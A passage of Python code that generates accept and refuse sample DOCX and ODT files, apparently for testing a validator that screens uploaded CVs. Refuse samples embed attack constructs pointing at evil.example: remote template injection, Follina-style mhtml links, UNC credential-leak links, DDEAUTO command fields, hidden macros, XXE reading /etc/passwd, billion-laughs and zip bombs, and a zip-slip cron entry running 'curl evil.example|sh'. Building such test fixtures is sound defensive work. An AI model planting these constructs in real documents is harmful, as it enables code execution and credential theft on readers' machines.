    mode = ' TargetMode="External"' if external else ""
    relationship = (
        f'<Relationship Id="{rid}" Type="{RELATIONSHIP}{kind}" Target="{target}"{mode}/>'
    ).encode()
    if rels not in entries:
        entries[rels] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b"</Relationships>"
        )
    entries[rels] = entries[rels].replace(b"</Relationships>", relationship + b"</Relationships>")
    return entries


def add_content_type(entries, xml: str):
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"</Types>", xml.encode() + b"</Types>"
    )
    return entries


def in_body(entries, xml: str, part: str = "word/document.xml"):
    document = entries[part]
    position = (
        document.rindex(b"<w:sectPr") if b"<w:sectPr" in document else document.rindex(b"</w:body>")
    )
    entries[part] = document[:position] + xml.encode() + document[position:]
    return entries


def in_settings(entries, xml: str):
    settings = entries["word/settings.xml"]
    position = settings.index(b">", settings.index(b"<w:settings")) + 1
    entries["word/settings.xml"] = settings[:position] + xml.encode() + settings[position:]
    return entries


def field(instruction: str, result: str = "x") -> str:
    """A complex field as Word writes it: begin, instruction, separate, result, end."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def ole_file(*stream_names: str) -> bytes:
    """An OLE compound file (what a VBA project or an embedded Office object is): the header,
    then one directory sector with the named entries."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIII", header, 44, 1, 0, 0, 0x1000, 0xFFFFFFFE)
    directory = bytearray()
    for index, name in enumerate(("Root Entry", *stream_names)):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 64, len(encoded), 5 if index == 0 else 2, 1)
        directory += entry
    directory += bytes(-len(directory) % 512)
    return bytes(header) + bytes(directory)


VBA_PROJECT = ole_file("VBA", "_VBA_PROJECT", "dir", "ThisDocument", "PROJECT")
OLE_OBJECT = ole_file("\x01Ole10Native", "\x01CompObj")


@sample(
    "accept-pandoc-cv.docx",
    "accept",
    "",
    "A genuine DOCX written by pandoc 2.17: styles, numbering, footnotes, comments, theme, "
    "settings, core and app properties, a photo, web and e-mail hyperlinks.",
)
def pandoc_cv_docx():
    return generated("accept-pandoc-cv.docx", pandoc("docx"))


WORD_FOOTER = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:ftr xmlns:w="{W}" '
    f'xmlns:r="{R}"><w:p><w:pPr><w:jc w:val="right"/></w:pPr><w:r><w:t xml:space="preserve">'
    'Page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
    'xml:space="preserve"> PAGE   \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar '
    'w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar '
    'w:fldCharType="end"/></w:r><w:r><w:t xml:space="preserve"> / </w:t></w:r>'
    '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p></w:ftr>'
)


@sample(
    "accept-word-style-cv.docx",
    "accept",
    "",
    "As Word writes a CV: a footer with PAGE and NUMPAGES fields, a TOC field, a HYPERLINK "
    "field to a web page and one to a bookmark (\\l), a DATE field, hyperlinks, an image.",
)
def word_style_cv():
    entries = pandoc_docx()
    entries["word/footer1.xml"] = WORD_FOOTER.encode()
    add_content_type(
        entries,
        '<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.footer+xml"/>',
    )
    add_relationship(entries, "word/_rels/document.xml.rels", "footer", "footer1.xml", False)
    in_body(
        entries,
        field(' TOC \\o "1-3" \\h \\z \\u ', "Table des matières")
        + field(' HYPERLINK "https://www.linkedin.com/in/camille-dufour-example" ', "LinkedIn")
        + field(' HYPERLINK \\l "experience" ', "Expérience")
        + field(' DATE \\@ "d MMMM yyyy" ', "1 mars 2026"),
    )
    # pandoc writes an empty section; Word's names the footer.
    entries["word/document.xml"] = entries["word/document.xml"].replace(
        b"<w:sectPr />",
        b'<w:sectPr><w:footerReference w:type="default" r:id="rId90"/></w:sectPr>',
    )
    assert b"footerReference" in entries["word/document.xml"]
    return rezip(entries)


@sample(
    "accept-word-cv-from-template.docx",
    "accept",
    "",
    "Made from one of Word's CV templates: settings name the template by its path on the "
    "author's disk (attachedTemplate, file:///C:/Users/...). A local path reaches no server.",
)
def word_cv_from_template():
    entries = pandoc_docx()
    in_settings(entries, '<w:attachedTemplate r:id="rId90"/>')
    target = "file:///C:\\Users\\camille\\AppData\\Roaming\\Microsoft\\Templates\\CV moderne.dotx"
    add_relationship(entries, "word/_rels/settings.xml.rels", "attachedTemplate", target)
    return rezip(entries)


@sample(
    "accept-word-tracked-changes.docx",
    "accept",
    "",
    "Tracked changes (insertions, deletions, a deleted PAGE field's delInstrText) and comments.",
)
def tracked_changes():
    entries = pandoc_docx()
    in_body(
        entries,
        '<w:p><w:ins w:id="901" w:author="Camille" w:date="2026-03-01T10:00:00Z"><w:r><w:t>'
        'Disponible deux soirs par semaine.</w:t></w:r></w:ins><w:del w:id="902" '
        'w:author="Camille" w:date="2026-03-01T10:00:00Z"><w:r><w:fldChar w:fldCharType="begin"/>'
        '</w:r><w:r><w:delInstrText xml:space="preserve"> PAGE </w:delInstrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r><w:r><w:delText>Ancien texte</w:delText></w:r>'
        "</w:del></w:p>",
    )
    return rezip(entries)


@sample(
    "refuse-docx-attached-template-http.docx",
    "refuse",
    "external_content",
    "Template injection: settings attach a template fetched from a web server when the "
    "document opens (it can carry macros). The relationship file, not the text, holds it.",
)
def attached_template_http():
    entries = pandoc_docx()
    in_settings(entries, '<w:attachedTemplate r:id="rId90"/>')
    add_relationship(
        entries, "word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/t.dotm"
    )
    return rezip(entries)


@sample(
    "refuse-docx-attached-template-unc.docx",
    "refuse",
    "external_content",
    "The attached template on a network share (\\\\server\\share): Windows sends the reader's "
    "credentials to it on opening.",
)
def attached_template_unc():
    entries = pandoc_docx()
    in_settings(entries, '<w:attachedTemplate r:id="rId90"/>')
    add_relationship(
        entries, "word/_rels/settings.xml.rels", "attachedTemplate", "\\\\evil.example\\t\\cv.dotm"
    )
    return rezip(entries)


@sample(
    "refuse-docx-attached-template-file-host.docx",
    "refuse",
    "external_content",
    "The attached template as file://host/...: a network path, not a local one.",
)
def attached_template_file_host():
    entries = pandoc_docx()
    in_settings(entries, '<w:attachedTemplate r:id="rId90"/>')
    add_relationship(
        entries, "word/_rels/settings.xml.rels", "attachedTemplate", "file://evil.example/t.dotm"
    )
    return rezip(entries)


@sample(
    "refuse-docx-oleobject-mhtml.docx",
    "refuse",
    "external_content",
    "An OLE object linked to an mhtml: address (the 'Follina' way to run ms-msdt on opening).",
)
def oleobject_mhtml():
    entries = pandoc_docx()
    add_relationship(
        entries,
        "word/_rels/document.xml.rels",
        "oleObject",
        "mhtml:https://evil.example/page.html!x-usc:https://evil.example/page.html",
    )
    return rezip(entries)


@sample(
    "refuse-docx-oleobject-external.docx",
    "refuse",
    "external_content",
    "An OLE object linked to a file on a web server (TargetMode External).",
)
def oleobject_external():
    entries = pandoc_docx()
    add_relationship(
        entries, "word/_rels/document.xml.rels", "oleObject", "https://evil.example/sheet.xlsx"
    )
    return rezip(entries)


@sample(
    "refuse-docx-mhtml-without-targetmode.docx",
    "refuse",
    "external_content",
    "An mhtml: target on an OLE object with no TargetMode: outside all the same.",
)
def mhtml_without_targetmode():
    entries = pandoc_docx()
    add_relationship(
        entries,
        "word/_rels/document.xml.rels",
        "oleObject",
        "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html",
        external=False,
    )
    return rezip(entries)


@sample(
    "refuse-docx-frame.docx",
    "refuse",
    "external_content",
    "A frame (web settings frameset) loading an outside page.",
)
def frame():
    entries = pandoc_docx()
    add_relationship(
        entries, "word/_rels/webSettings.xml.rels", "frame", "https://evil.example/f.html"
    )
    return rezip(entries)


@sample(
    "refuse-docx-subdocument.docx",
    "refuse",
    "external_content",
    "A master document including a sub-document on a network share.",
)
def subdocument():
    entries = pandoc_docx()
    add_relationship(
        entries, "word/_rels/document.xml.rels", "subDocument", "\\\\evil.example\\s\\part.docx"
    )
    return rezip(entries)


@sample(
    "refuse-docx-external-link-path.docx",
    "refuse",
    "external_content",
    "An externalLinkPath relationship (a workbook link) to an outside file.",
)
def external_link_path():
    entries = pandoc_docx()
    add_relationship(
        entries,
        "word/_rels/document.xml.rels",
        "externalLinkPath",
        "https://evil.example/data.xlsx",
    )
    return rezip(entries)


@sample(
    "refuse-docx-linked-picture.docx",
    "refuse",
    "external_content",
    "A linked picture (image relationship, TargetMode External): a tracking pixel fetched on "
    "opening.",
)
def linked_picture():
    entries = pandoc_docx()
    add_relationship(
        entries, "word/_rels/document.xml.rels", "image", "https://evil.example/pixel.png?cv=1"
    )
    return rezip(entries)


@sample(
    "refuse-docx-mail-merge-source.docx",
    "refuse",
    "external_content",
    "A mail-merge data source on a server (settings' mailMergeSource): queried on opening.",
)
def mail_merge_source():
    entries = pandoc_docx()
    add_relationship(
        entries,
        "word/_rels/settings.xml.rels",
        "mailMergeSource",
        "file://evil.example/data/recipients.odc",
    )
    return rezip(entries)


@sample(
    "refuse-docx-hyperlink-file.docx",
    "refuse",
    "unsafe_link",
    "A hyperlink to a local program (file:///C:/Windows/System32/cmd.exe): clicking it starts "
    "the program.",
)
def hyperlink_file():
    entries = pandoc_docx()
    add_relationship(
        entries, "word/_rels/document.xml.rels", "hyperlink", "file:///C:/Windows/System32/cmd.exe"
    )
    return rezip(entries)


@sample(
    "refuse-docx-hyperlink-unc.docx",
    "refuse",
    "unsafe_link",
    "A hyperlink to a network share (\\\\server\\share): following it sends Windows credentials.",
)
def hyperlink_unc():
    entries = pandoc_docx()
    add_relationship(
        entries, "word/_rels/document.xml.rels", "hyperlink", "\\\\evil.example\\share\\cv.pdf"
    )
    return rezip(entries)


@sample(
    "refuse-docx-hyperlink-ms-msdt.docx",
    "refuse",
    "unsafe_link",
    "A hyperlink to the ms-msdt: protocol handler (runs a Windows tool).",
)
def hyperlink_msdt():
    entries = pandoc_docx()
    add_relationship(
        entries, "word/_rels/document.xml.rels", "hyperlink", "ms-msdt:/id PCWDiagnostic"
    )
    return rezip(entries)


@sample(
    "refuse-docx-vbaproject-renamed.docx",
    "refuse",
    "macros",
    "A VBA project stored as word/settings.bin (not vbaProject.bin), declared by its content "
    "type and its relationship.",
)
def vbaproject_renamed():
    entries = pandoc_docx()
    entries["word/settings.bin"] = VBA_PROJECT
    add_content_type(
        entries, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    add_relationship(
        entries,
        "word/_rels/document.xml.rels",
        "vbaProject",
        "settings.bin",
        external=False,
    )
    entries["word/_rels/document.xml.rels"] = entries["word/_rels/document.xml.rels"].replace(
        RELATIONSHIP.encode() + b"vbaProject",
        b"http://schemas.microsoft.com/office/2006/relationships/vbaProject",
    )
    return rezip(entries)


@sample(
    "refuse-docx-vba-as-image.docx",
    "refuse",
    "macros",
    "A VBA project hidden as word/media/image2.png, with no declaration at all: found by its "
    "OLE signature and its _VBA_PROJECT stream.",
)
def vba_as_image():
    entries = pandoc_docx()
    entries["word/media/image2.png"] = VBA_PROJECT
    return rezip(entries)


@sample(
    "refuse-docx-macro-enabled-content-type.docx",
    "refuse",
    "macros",
    "A .docm renamed .docx: the main part's content type is macroEnabled.",
)
def macro_enabled():
    entries = pandoc_docx()
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert b"macroEnabled" in entries["[Content_Types].xml"]
    return rezip(entries)


@sample(
    "refuse-docx-vba-data.docx",
    "refuse",
    "macros",
    "A vbaData part (the macros' own settings) declared by its content type.",
)
def vba_data():
    entries = pandoc_docx()
    entries["word/data1.xml"] = (
        b'<?xml version="1.0"?><wne:vbaSuppData '
        b'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    add_content_type(
        entries,
        '<Override PartName="/word/data1.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
    )
    return rezip(entries)


@sample(
    "refuse-docx-activex.docx",
    "refuse",
    "embedded_object",
    "An ActiveX control (activeX part, control relationship): a program the document runs.",
)
def activex():
    entries = pandoc_docx()
    entries["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>'
    )
    add_content_type(
        entries,
        '<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
    )
    add_relationship(
        entries, "word/_rels/document.xml.rels", "control", "activeX/activeX1.xml", False
    )
    return rezip(entries)


@sample(
    "refuse-docx-embedded-ole-object.docx",
    "refuse",
    "embedded_object",
    "An embedded OLE object (a packager object can hold any program).",
)
def embedded_ole():
    entries = pandoc_docx()
    entries["word/embeddings/oleObject1.bin"] = OLE_OBJECT
    add_relationship(
        entries, "word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", False
    )
    return rezip(entries)


@sample(
    "refuse-docx-ole-part-unlisted.docx",
    "refuse",
    "embedded_object",
    "An OLE compound file stored as word/media/photo.jpg, declared nowhere: found by its "
    "signature (D0 CF 11 E0).",
)
def ole_unlisted():
    entries = pandoc_docx()
    entries["word/media/photo.jpg"] = OLE_OBJECT
    return rezip(entries)


@sample(
    "refuse-docx-altchunk-rtf.docx",
    "refuse",
    "embedded_object",
    "An altChunk: an RTF document imported on opening (RTF carries OLE objects and exploits).",
)
def altchunk():
    entries = pandoc_docx()
    entries["word/afchunk.rtf"] = rb"{\rtf1{\object\objemb{\*\objdata 01050000}}}"
    add_content_type(entries, '<Default Extension="rtf" ContentType="application/rtf"/>')
    add_relationship(entries, "word/_rels/document.xml.rels", "aFChunk", "afchunk.rtf", False)
    in_body(entries, '<w:altChunk r:id="rId90"/>')
    return rezip(entries)


@sample(
    "refuse-docx-embedded-package.docx",
    "refuse",
    "embedded_object",
    "Another Office document embedded as a package (it could be a .docm).",
)
def embedded_package():
    entries = pandoc_docx()
    entries["word/embeddings/Document1.docx"] = rezip(pandoc_docx())
    add_relationship(
        entries, "word/_rels/document.xml.rels", "package", "embeddings/Document1.docx", False
    )
    return rezip(entries)


@sample(
    "refuse-docx-ddeauto.docx",
    "refuse",
    "field_code",
    "A DDEAUTO field: runs a command when the document opens.",
)
def ddeauto():
    entries = pandoc_docx()
    in_body(entries, field('DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'))
    return rezip(entries)


@sample(
    "refuse-docx-dde-split-runs.docx",
    "refuse",
    "field_code",
    "A DDE field whose name is cut across three runs ('D', 'DEAU', 'TO'): Word joins them.",
)
def dde_split():
    entries = pandoc_docx()
    in_body(
        entries,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>D</w:instrText>'
        '</w:r><w:r><w:instrText>DEAU</w:instrText></w:r><w:r><w:instrText xml:space="preserve">'
        'TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p>',
    )
    return rezip(entries)


@sample(
    "refuse-docx-fldsimple-dde.docx",
    "refuse",
    "field_code",
    "A simple field (w:fldSimple) whose instruction is DDE, in lower case: it asks another "
    "program for data.",
)
def fldsimple_dde():
    entries = pandoc_docx()
    in_body(
        entries,
        '<w:p><w:fldSimple w:instr=" dde excel &quot;C:\\\\x.xls&quot; sheet1!R1C1 ">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
    )
    return rezip(entries)


@sample(
    "refuse-docx-includetext-remote.docx",
    "refuse",
    "field_code",
    "An INCLUDETEXT field pulling in text from a web server.",
)
def includetext():
    entries = pandoc_docx()
    in_body(entries, field(' INCLUDETEXT "https://evil.example/payload.docx" '))
    return rezip(entries)


@sample(
    "refuse-docx-includepicture-footnote.docx",
    "refuse",
    "field_code",
    "An INCLUDEPICTURE field in a footnote, fetching a picture from a network share.",
)
def includepicture():
    entries = pandoc_docx()
    footnotes = entries["word/footnotes.xml"]
    position = footnotes.rindex(b"</w:footnotes>")
    entries["word/footnotes.xml"] = (
        footnotes[:position]
        + b'<w:footnote w:id="90">'
        + field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\p.png" \\d ').encode()
        + b"</w:footnote>"
        + footnotes[position:]
    )
    return rezip(entries)


@sample(
    "refuse-docx-link-field.docx",
    "refuse",
    "field_code",
    "A LINK field to a workbook on a server (updated on opening).",
)
def link_field():
    entries = pandoc_docx()
    in_body(entries, field(' LINK Excel.Sheet.12 "https://evil.example/b.xlsx" "Sheet1!R1C1" \\a '))
    return rezip(entries)


@sample(
    "refuse-docx-nested-field-name.docx",
    "refuse",
    "field_code",
    "A field whose name is the result of another field ({ {QUOTE 68 68 69} ... }): built only "
    "when Word opens it.",
)
def nested_field_name():
    entries = pandoc_docx()
    in_body(
        entries,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar '
        'w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE 68 68 69 '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText '
        'xml:space="preserve"> c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )
    return rezip(entries)


@sample(
    "refuse-docx-hyperlink-field-unc.docx",
    "refuse",
    "unsafe_link",
    "A HYPERLINK field to a network share: following it sends Windows credentials.",
)
def hyperlink_field_unc():
    entries = pandoc_docx()
    in_body(entries, field(' HYPERLINK "\\\\\\\\evil.example\\\\share\\\\cv.pdf" '))
    return rezip(entries)


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + f']>\n<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
    "</w:body></w:document>"
)


@sample(
    "refuse-docx-entity-bomb.docx",
    "refuse",
    "damaged",
    "'Billion laughs': a DTD whose nested entities expand to gigabytes. Refused on the DTD, "
    "before any entity is expanded.",
)
def entity_bomb():
    entries = pandoc_docx()
    entries["word/document.xml"] = BILLION_LAUGHS.encode()
    return rezip(entries)


@sample(
    "refuse-docx-external-entity.docx",
    "refuse",
    "damaged",
    "An external entity (XXE) in [Content_Types].xml reading a local file.",
)
def external_entity():
    entries = pandoc_docx()
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"?>", b'?><!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1
    )
    return rezip(entries)


@sample(
    "refuse-docx-malformed-xml.docx",
    "refuse",
    "damaged",
    "A document part cut in the middle: not well-formed XML.",
)
def malformed_xml():
    entries = pandoc_docx()
    entries["word/document.xml"] = entries["word/document.xml"][:-200]
    return rezip(entries)


@sample(
    "refuse-docx-duplicate-part.docx",
    "refuse",
    "damaged",
    "Two parts named word/document.xml and Word/Document.xml (part names ignore case): which "
    "one a reader takes is unknown.",
)
def duplicate_part():
    entries = pandoc_docx()
    # The second copy runs a command: whichever one a reader took, it must not be chosen.
    in_body(entries, field('DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'))
    entries["Word/Document.xml"] = entries.pop("word/document.xml")
    entries["word/document.xml"] = pandoc_docx()["word/document.xml"]
    return rezip(entries)


@sample(
    "refuse-docx-zip-password.docx",
    "refuse",
    "encrypted",
    "A part marked as encrypted in the zip itself: it cannot be inspected.",
)
def zip_password():
    content = bytearray(rezip(pandoc_docx()))
    # Set the "encrypted" flag of every entry, in the local headers and the central directory.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (position := content.find(signature, start)) != -1:
            content[position + offset] |= 0x01
            start = position + 4
    return bytes(content)


@sample(
    "refuse-docx-zip-bomb.docx",
    "refuse",
    "zip_bomb",
    "60 KB on disk, 60 MB once opened: refused on the sizes the archive declares, unopened.",
)
def zip_bomb():
    entries = pandoc_docx()
    entries["word/media/padding.bin"] = b"\x00" * (60 * 1024 * 1024)
    return rezip(entries)


@sample(
    "refuse-docx-too-many-parts.docx",
    "refuse",
    "zip_entries",
    "1,200 parts: far more than any CV (a way to make the inspection slow).",
)
def too_many_parts():
    entries = pandoc_docx()
    for number in range(1200):
        entries[f"customXml/item{number}.xml"] = b""
    return rezip(entries)


@sample(
    "refuse-docx-path-traversal.docx",
    "refuse",
    "not_docx",
    "An entry named ../../../etc/cron.d/evil (zip slip): extracting it would write outside the "
    "folder.",
)
def path_traversal():
    entries = pandoc_docx()
    entries["../../../etc/cron.d/evil"] = b"* * * * * root sh -c 'curl evil.example|sh'\n"
    return rezip(entries)


@sample(
    "refuse-docx-absolute-path.docx",
    "refuse",
    "not_docx",
    "An entry with an absolute Windows path (\\Windows\\System32\\x.dll): not the structure of "
    "a Word file.",
)
def absolute_path():
    entries = pandoc_docx()
    entries["\\Windows\\System32\\x.dll"] = b"MZ"
    return rezip(entries)


@sample(
    "refuse-docx-password-protected-word.docx",
    "refuse",
    "not_docx",
    "A password-protected Word file: an OLE container, not a zip, so not a readable DOCX.",
)
def password_protected_word():
    return ole_file("EncryptionInfo", "EncryptedPackage")


@sample(
    "refuse-docx-pdf-renamed.docx",
    "refuse",
    "not_docx",
    "A PDF renamed .docx: the extension does not match the content.",
)
def pdf_renamed():
    return saved(cv_pdf())


# OpenDocument texts -------------------------------------------------------------------------

ODF_NAMESPACES = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
}


def pandoc_odt() -> dict[str, bytes]:
    return parts(generated("accept-pandoc-cv.odt", pandoc("odt")))


def in_text(entries, xml: str):
    content = entries["content.xml"]
    position = content.rindex(b"</office:text>")
    entries["content.xml"] = content[:position] + xml.encode() + content[position:]
    return entries


def in_manifest(entries, path: str, media_type: str, extra: str = ""):
    entry = (
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media_type}"'
        + (f">{extra}</manifest:file-entry>" if extra else "/>")
    )
    entries["META-INF/manifest.xml"] = entries["META-INF/manifest.xml"].replace(
        b"</manifest:manifest>", entry.encode() + b"</manifest:manifest>"
    )
    return entries


@sample(
    "accept-pandoc-cv.odt",
    "accept",
    "",
    "A genuine ODT written by pandoc 2.17 (LibreOffice's reference styles): manifest, meta, "
    "settings, styles, a picture, hyperlinks, an empty Configurations2 part.",
)
def pandoc_cv_odt():
    return generated("accept-pandoc-cv.odt", pandoc("odt"))


def rst2odt(folder: Path) -> Path:
    candidates = [shutil.which("rst2odt.py"), shutil.which("rst2odt")]
    command = next((path for path in candidates if path), None)
    if command is None:
        sys.exit("docutils' rst2odt is needed once to make accept-docutils-cv.odt")
    (folder / "cv.rst").write_text(
        "Camille Dufour\n==============\n\n"
        ".. image:: photo.png\n   :width: 2cm\n   :height: 2.5cm\n\n"
        "Coordinatrice bénévole, groupe local de Namur. `LinkedIn "
        "<https://www.linkedin.com/in/camille-dufour-example>`_\n\n"
        "Expérience\n----------\n\n* Campagnes de signatures\n* Actions urgentes\n",
        encoding="utf-8",
    )
    subprocess.run([command, "cv.rst", "cv.odt"], cwd=folder, check=True)
    return folder / "cv.odt"


@sample(
    "accept-docutils-cv.odt",
    "accept",
    "",
    "A genuine ODT written by docutils' rst2odt, on an OpenOffice-made template "
    "(Configurations2 folders, settings, styles, a picture, a hyperlink).",
)
def docutils_cv():
    return generated("accept-docutils-cv.odt", rst2odt)


@sample(
    "accept-libreoffice-style-cv.odt",
    "accept",
    "",
    "As LibreOffice Writer saves a CV made from a template: meta:template naming the template "
    "by a relative path on the author's disk, an empty office:scripts, a page-number field, a "
    "linked bookmark, web and e-mail links, a picture in the package.",
)
def libreoffice_style():
    entries = pandoc_odt()
    meta = entries["meta.xml"]
    entries["meta.xml"] = meta.replace(
        b"<meta:generator>Pandoc/2.17.1.1</meta:generator>",
        b"<meta:generator>LibreOffice/7.4.7.2$Linux_X86_64 LibreOffice_project/40$Build-2"
        b'</meta:generator><meta:template xlink:type="simple" xlink:actuate="onRequest" '
        b'xlink:title="CV" xlink:href="../../.config/libreoffice/4/user/template/CV.ott" '
        b'meta:date="2026-01-10T09:00:00"/>',
    )
    content = entries["content.xml"]
    entries["content.xml"] = content.replace(
        b"<office:font-face-decls>", b"<office:scripts/><office:font-face-decls>", 1
    )
    in_text(
        entries,
        '<text:p><text:bookmark text:name="experience"/>Page <text:page-number '
        'text:select-page="current">1</text:page-number> · <text:a xlink:type="simple" '
        'xlink:href="#experience">Expérience</text:a> · <text:a xlink:type="simple" '
        'xlink:href="mailto:camille.dufour@example.org">e-mail</text:a></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-basic-macros.odt",
    "refuse",
    "macros",
    "A Basic macro library (Basic/Standard/Module1.xml), listed in the manifest.",
)
def odt_basic():
    entries = pandoc_odt()
    entries["Basic/Standard/Module1.xml"] = (
        b'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" '
        b'script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub'
        b"</script:module>"
    )
    in_manifest(entries, "Basic/Standard/Module1.xml", "text/xml")
    return rezip(entries)


@sample(
    "refuse-odt-python-script.odt",
    "refuse",
    "macros",
    "A Python macro (Scripts/python/run.py), listed in the manifest with a script media type.",
)
def odt_python():
    entries = pandoc_odt()
    entries["Scripts/python/run.py"] = b"import os\nos.system('calc')\n"
    in_manifest(entries, "Scripts/python/run.py", "application/binary")
    return rezip(entries)


@sample(
    "refuse-odt-event-listener.odt",
    "refuse",
    "macros",
    "A script:event-listener that runs a macro when the document is opened (OnLoad).",
)
def odt_event_listener():
    entries = pandoc_odt()
    content = entries["content.xml"]
    listeners = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:'
        'script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.'
        'Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners>'
        "</office:scripts>"
    )
    entries["content.xml"] = content.replace(
        b"<office:font-face-decls>", listeners.encode() + b"<office:font-face-decls>", 1
    )
    return rezip(entries)


@sample(
    "refuse-odt-execute-macro-field.odt",
    "refuse",
    "macros",
    "A text:execute-macro field: runs a macro when the reader clicks it.",
)
def odt_execute_macro():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:p><text:execute-macro text:name="Standard.Module1.Main">Cliquez ici'
        "</text:execute-macro></text:p>",
    )
    return rezip(entries)


@sample(
    "refuse-odt-dde-connection.odt",
    "refuse",
    "field_code",
    "A DDE connection declaration (text:dde-connection-decl) and a field using it.",
)
def odt_dde():
    entries = pandoc_odt()
    office = ODF_NAMESPACES["office"]
    in_text(
        entries,
        '<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
        f'xmlns:office="{office}" office:dde-application="cmd" office:dde-topic="/c calc" '
        'office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls>'
        '<text:p><text:dde-connection text:connection-name="x">x</text:dde-connection></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-dde-section.odt",
    "refuse",
    "field_code",
    "A section whose content comes from a DDE source (office:dde-source).",
)
def odt_dde_section():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:section text:name="S1"><office:dde-source office:dde-application="soffice" '
        'office:dde-topic="https://evil.example/x.odt" office:dde-item="x" '
        'office:automatic-update="true"/><text:p>x</text:p></text:section>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-ole-object.odt",
    "refuse",
    "embedded_object",
    "An embedded OLE object ('Object 1', an OLE compound file).",
)
def odt_ole():
    entries = pandoc_odt()
    entries["Object 1"] = OLE_OBJECT
    in_manifest(entries, "Object 1", "application/vnd.sun.star.oleobject")
    in_text(
        entries,
        '<text:p><draw:frame draw:name="Objet1" svg:width="2cm" svg:height="2cm"><draw:object-ole '
        'xlink:href="./Object 1" xlink:type="simple"/></draw:frame></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-applet.odt",
    "refuse",
    "embedded_object",
    "A Java applet (draw:applet) in a frame: a program fetched and run by the document.",
)
def odt_applet():
    entries = pandoc_odt()
    in_text(
        entries,
